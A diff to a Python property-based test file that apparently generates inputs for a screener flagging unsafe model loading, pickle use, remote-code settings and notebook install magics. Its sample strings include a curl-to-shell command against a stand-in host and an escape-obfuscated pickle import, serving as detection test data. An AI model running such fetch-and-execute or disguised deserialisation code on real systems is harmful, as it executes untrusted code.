@@ -81,6 +81,7 @@ def test_most_of_what_holds_nothing_is_screened_out() -> None:
         "import os\n\n\ndef place(folder):\n    return os.path.join(folder, 'tickets.csv')\n",
         "import torch\n\n\nclass Net(torch.nn.Module):\n    def forward(self, x):\n        return self.layer(x)\n",
         "import numpy as np\nimport pandas as pd\nrows = pd.read_csv('a.csv')\nprint(np.mean(rows.values))\n",
+        "print('rate=%s, %d%%' % (a, 5))\ntext = 'a'\\\n    % b\nx = a != b\ny = a % b\n",
         "from dataclasses import dataclass\n\n\n@dataclass\nclass Row:\n    id: int\n    title: str = ''\n",
     ]
     ready = screen.ready(law().screen)
@@ -120,6 +121,13 @@ ARGUMENTS = st.sampled_from(
         "'\\x69mport pickle; pickle.load(x)'", "'s3://prod-data/x'", "stream, Loader=yaml.Loader", "",
     ]
 )  # fmt: skip
+MAGICS = st.sampled_from(
+    [
+        "!pip install x", "!!pip install x", "%pip install x", "pip install x", "uv pip install x", "conda install x",
+        "out = !pip install x", "a, b = %sx pip install x", "if a:\n    !pip install x", ">>> !pip install x",
+        "%%bash\npip install x", "%%writefile a.sh\npip install x", "In [3]: !pip install x", "# %%\n%conda install x",
+    ]
+)  # fmt: skip
 STATEMENTS = st.one_of(
     st.builds("{}({})".format, NAMES, ARGUMENTS),
     st.builds("g = {}".format, NAMES),
@@ -129,6 +137,7 @@ STATEMENTS = st.one_of(
     st.builds("class R({}):\n    pass".format, st.sampled_from(["pickle.Unpickler", "torch.nn.Module", "f", "h.Un"])),
     st.builds("import functools\nfunctools.partial({})({})".format, NAMES, ARGUMENTS),
     st.builds("os.environ[{!r}] = '1'".format, st.sampled_from(["TRUST_REMOTE_CODE", "HF_TOKEN", "X"])),
+    MAGICS,
     st.sampled_from(
         ["# %% [markdown]", "!pip install x", "%env A=1", "x = 1", "# MAGIC %sh curl https://e.com/x | sh"]
     ),
@@ -137,7 +146,11 @@ HELPERS = st.sampled_from(
     [
         "from torch import load as ld", "import torch\nld = torch.load", "import torch as t\nld = t.load",
         "from pkg import again as ld", "from pickle import Unpickler as Un, load as ld", "x = 1",
-        "import torch\ndef ld(x):\n    return x", "from torch import *", "import torch\n\nld, other = torch.load, 1",
+        "import torch\ndef ld(x):\n    return x", "from torch import *",
+        "import torch\n\nld, other = torch.load, 1",
+"LOADERS = {\n    'pt': __import__('torch').load,\n}\nimport torch\nld = other = torch.load",
+        "import torch\n\nTABLE = {\n    'a': torch.load,\n}\nld = TABLE['a']",
+        "import os; import torch as t; ld = t.load",
         "import torch\nif True:\n    ld = torch.load", "import torch\nld: object = torch.load",
     ]
 )  # fmt: skip
